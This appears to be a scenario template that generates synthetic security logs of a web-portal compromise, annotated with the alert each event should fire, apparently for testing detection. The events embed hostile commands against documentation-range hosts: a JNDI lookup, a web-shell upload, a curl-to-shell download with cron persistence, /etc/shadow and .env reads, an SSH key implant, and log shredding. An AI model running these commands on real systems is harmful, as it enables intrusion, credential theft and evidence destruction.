# Act 2: the customer portal.
# At the same time somebody else looks for open doors. web-01 (10.20.3.20) lets visitors upload a picture and runs
# what they upload. The attacker's server is 203.0.113.9, the loot is fetched from 203.0.113.77.

# Knocking. Alert: jndi_lookup_in_request. The path traversal is answered with 404 and gives none.
@ 200 zeek sensor-01
{"_path":"http","ts":{{time:zeek}},"uid":"{{uid:.c}}","id.orig_h":"203.0.113.9","id.orig_p":51544,"id.resp_h":"10.20.3.20","id.resp_p":80,"trans_depth":1,"method":"GET","host":"portal.nordhafen.example","uri":"/","version":"1.1","user_agent":"${jndi:ldap://203.0.113.77:1389/a}","request_body_len":0,"response_body_len":5120,"status_code":404,"status_msg":"Not Found","tags":[],"resp_fuids":["F9kQ1tExample01"],"resp_mime_types":["text/html"]}

@ 206 zeek sensor-01
{"_path":"http","ts":{{time:zeek}},"uid":"{{uid:.c}}","id.orig_h":"203.0.113.9","id.orig_p":51544,"id.resp_h":"10.20.3.20","id.resp_p":80,"trans_depth":1,"method":"GET","host":"portal.nordhafen.example","uri":"/download?f=../../../../etc/passwd","version":"1.1","user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36","request_body_len":0,"response_body_len":5120,"status_code":404,"status_msg":"Not Found","tags":[],"resp_fuids":["F9kQ1tExample01"],"resp_mime_types":["text/html"]}

@ 206.1 suricata sensor-01
{"timestamp":"{{time:suricata}}","flow_id":{{flow:.c}},"in_iface":"eth1","event_type":"alert","src_ip":"203.0.113.9","src_port":51544,"dest_ip":"10.20.3.20","dest_port":80,"proto":"TCP",
  "alert":{"action":"allowed","gid":1,"signature_id":9100014,"rev":2,"signature":"NORDHAFEN WEB Path Traversal Attempt","category":"Web Application Attack","severity":2},"app_proto":"http","flow":{"pkts_toserver":14,"pkts_toclient":12,"bytes_toserver":2210,"bytes_toclient":6114,"start":"{{time:suricata:-1}}"}}

# The picture that is a program is uploaded, and asked.
@ 248 zeek sensor-01
{"_path":"http","ts":{{time:zeek}},"uid":"{{uid:.c}}","id.orig_h":"203.0.113.9","id.orig_p":51544,"id.resp_h":"10.20.3.20","id.resp_p":80,"trans_depth":1,"method":"POST","host":"portal.nordhafen.example","uri":"/account/avatar","version":"1.1","user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36","request_body_len":1822,"response_body_len":5120,"status_code":302,"status_msg":"Found","tags":[],"resp_fuids":["F9kQ1tExample01"],"resp_mime_types":["text/html"]}

# Alert: script_posted_to_in_upload_folder.
@ 260 zeek sensor-01
{"_path":"http","ts":{{time:zeek}},"uid":"{{uid:.c}}","id.orig_h":"203.0.113.9","id.orig_p":51544,"id.resp_h":"10.20.3.20","id.resp_p":80,"trans_depth":1,"method":"POST","host":"portal.nordhafen.example","uri":"/uploads/avatar-771.php","version":"1.1","user_agent":"python-requests/2.31.0","request_body_len":412,"response_body_len":5120,"status_code":200,"status_msg":"OK","tags":[],"resp_fuids":["F9kQ1tExample01"],"resp_mime_types":["text/html"]}

# The web server starts a shell: web_server_user_starts_shell, here and in each of the next shells (four times
# in all).
@ 260.4 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=1612 pid=24117 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=3 a0="sh" a1="-c" a2=69643B20756E616D65202D61
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/var/www/portal/uploads"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/usr/bin/dash" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=7368002D630069643B20756E616D65202D61

# Alert: command_in_query_of_script.
@ 290 zeek sensor-01
{"_path":"http","ts":{{time:zeek}},"uid":"{{uid:.c}}","id.orig_h":"203.0.113.9","id.orig_p":51544,"id.resp_h":"10.20.3.20","id.resp_p":80,"trans_depth":1,"method":"GET","host":"portal.nordhafen.example","uri":"/uploads/avatar-771.php?cmd=cat%20/etc/passwd","version":"1.1","user_agent":"python-requests/2.31.0","request_body_len":0,"response_body_len":5120,"status_code":200,"status_msg":"OK","tags":[],"resp_fuids":["F9kQ1tExample01"],"resp_mime_types":["text/html"]}

@ 290.3 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=1612 pid=24117 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=3 a0="sh" a1="-c" a2=636174202F6574632F706173737764
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/var/www/portal/uploads"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/usr/bin/dash" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=7368002D6300636174202F6574632F706173737764

# The second stage. Alert: download_piped_to_shell (also for the cron entry below and each of its three runs:
# five times in all).
@ 330 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=1612 pid=24117 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=3 a0="sh" a1="-c" a2=6375726C202D6673534C20687474703A2F2F3230332E302E3131332E37372F782E7368207C207368
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/var/www/portal/uploads"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/usr/bin/dash" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=7368002D63006375726C202D6673534C20687474703A2F2F3230332E302E3131332E37372F782E7368207C207368

@ 330.6 zeek sensor-01
{"_path":"http","ts":{{time:zeek}},"uid":"{{uid:second}}","id.orig_h":"10.20.3.20","id.orig_p":51544,"id.resp_h":"203.0.113.77","id.resp_p":80,"trans_depth":1,"method":"GET","host":"203.0.113.77","uri":"/x.sh","version":"1.1","user_agent":"curl/8.5.0","request_body_len":0,"response_body_len":914,"status_code":200,"status_msg":"OK","tags":[],"resp_fuids":["F9kQ1tExample01"],"resp_mime_types":["text/x-shellscript"]}

# A program hides in memory. Alert: hidden_program_in_temporary_folder.
@ 335 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=24201 pid=24117 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm=".kworkerd" exe="/dev/shm/.kworkerd" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=2 a0="/dev/shm/.kworkerd" a1="-B"
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/dev/shm"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/dev/shm/.kworkerd" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=2F6465762F73686D2F2E6B776F726B657264002D42

# It shall come back. Alert: crontab_from_pipe.
@ 341 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=24201 pid=24117 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=3 a0="sh" a1="-c" a2=2863726F6E746162202D6C20323E2F6465762F6E756C6C3B206563686F20222A2F35202A202A202A202A206375726C202D6673534C20687474703A2F2F3230332E302E3131332E37372F782E7368207C2073682229207C2063726F6E746162202D
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/var/www/portal/uploads"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/usr/bin/dash" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=7368002D63002863726F6E746162202D6C20323E2F6465762F6E756C6C3B206563686F20222A2F35202A202A202A202A206375726C202D6673534C20687474703A2F2F3230332E302E3131332E37372F782E7368207C2073682229207C2063726F6E746162202D

@ 341.3 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd1b2f7e21 a2=241 a3=1b6 items=2 ppid=1180 pid=24131 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="crontab" exe="/usr/bin/crontab" subj=unconfined key="watch"ARCH=x86_64 SYSCALL=openat AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/var/spool/cron/crontabs/" inode=917521 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=1 name="/var/spool/cron/crontabs/www-data" inode=917588 dev=08:01 mode=0100644 ouid=33 ogid=33 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="www-data" OGID="www-data"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=63726F6E746162002F7661722F73706F6F6C2F63726F6E2F63726F6E746162732F7777772D64617461

# Cron obeys.
@ 420 syslog web-01
<78>{{time:syslog}} web-01 CRON[{{int:25000:29999}}]: (www-data) CMD (curl -fsSL http://203.0.113.77/x.sh | sh)

@ 720 syslog web-01
<78>{{time:syslog}} web-01 CRON[{{int:25000:29999}}]: (www-data) CMD (curl -fsSL http://203.0.113.77/x.sh | sh)

@ 1020 syslog web-01
<78>{{time:syslog}} web-01 CRON[{{int:25000:29999}}]: (www-data) CMD (curl -fsSL http://203.0.113.77/x.sh | sh)

# Meanwhile somebody guesses passwords; no alert for each failure.

@ 440 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for root from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 445 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for invalid user admin from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 450 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for invalid user oracle from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 455 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for root from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 460 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for root from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 465 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for invalid user admin from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 470 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for invalid user oracle from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 475 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for root from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 480 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for root from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 485 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for invalid user admin from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 490 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for invalid user oracle from 203.0.113.41 port {{int:40000:60000}} ssh2

@ 495 syslog web-01
<38>{{time:syslog}} web-01 sshd[{{int:21000:21999}}]: Failed password for root from 203.0.113.41 port {{int:40000:60000}} ssh2

# Somebody once allowed the web server everything. Alert: service_account_uses_sudo_shell.
@ 520 syslog web-01
<86>{{time:syslog}} web-01 sudo[24311]: www-data : TTY=unknown ; PWD=/var/www/portal/uploads ; USER=root ; COMMAND=/bin/bash

# Alert: shadow_read_by_tool.
@ 527 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd1b2f7e21 a2=0 a3=1b6 items=2 ppid=1180 pid=24131 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="cat" exe="/usr/bin/cat" subj=unconfined key="watch"ARCH=x86_64 SYSCALL=openat AUID="unset" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/etc/" inode=917521 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=1 name="/etc/shadow" inode=917588 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=636174002F6574632F736861646F77

# A key of their own. Alert: authorized_keys_written_by_shell.
@ 560 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=24320 pid=24117 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=3 a0="sh" a1="-c" a2=6D6B646972202D70202F726F6F742F2E7373683B206563686F207373682D65643235353139204141414143334E7A6143316C5A4449314E54453541414141494578616D706C654578616D706C654578616D706C654578616D706C654578616D706C654578616D206B203E3E202F726F6F742F2E7373682F617574686F72697A65645F6B657973
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/tmp"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/usr/bin/dash" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=7368002D63006D6B646972202D70202F726F6F742F2E7373683B206563686F207373682D65643235353139204141414143334E7A6143316C5A4449314E54453541414141494578616D706C654578616D706C654578616D706C654578616D706C654578616D706C654578616D206B203E3E202F726F6F742F2E7373682F617574686F72697A65645F6B657973

# The settings of the portal are read. They hold the cloud key of j.brandt, which act 3 uses; it had been copied
# earlier.
@ 640.5 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=24320 pid=24117 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="cat" exe="/usr/bin/cat" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=2 a0="cat" a1="/var/www/portal/.env"
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/var/www/portal"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/usr/bin/cat" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=636174002F7661722F7777772F706F7274616C2F2E656E76

# They come back through the front door. Alert: service_account_logged_in_over_ssh.
@ 905 syslog web-01
<38>{{time:syslog}} web-01 sshd[21902]: Accepted publickey for www-data from 203.0.113.9 port 40022 ssh2: ED25519 SHA256:0Yk3ExampleExampleExampleExampleExampleExamp

# And tidy up. Alerts: shell_history_disabled, log_files_removed.
@ 930 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=24340 pid=24117 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=3 a0="bash" a1="-c" a2=756E736574204849535446494C453B206578706F7274204849535453495A453D30
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/root"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/usr/bin/bash" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=62617368002D6300756E736574204849535446494C453B206578706F7274204849535453495A453D30

@ 941 auditd web-01
type=SYSCALL msg=audit({{time:auditd}}:{{count}}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c41e2a10 a1=55d0c41e2b58 a2=55d0c41d9c30 a3=8 items=2 ppid=24340 pid=24117 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="shred" exe="/usr/bin/shred" subj=unconfined key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"
type=EXECVE msg=audit({{time:auditd}}:{{count}}): argc=3 a0="shred" a1="-u" a2="/var/log/auth.log"
type=CWD msg=audit({{time:auditd}}:{{count}}): cwd="/root"
type=PATH msg=audit({{time:auditd}}:{{count}}): item=0 name="/usr/bin/shred" inode=1310845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0OUID="root" OGID="root"
type=PROCTITLE msg=audit({{time:auditd}}:{{count}}): proctitle=7368726564002D75002F7661722F6C6F672F617574682E6C6F67
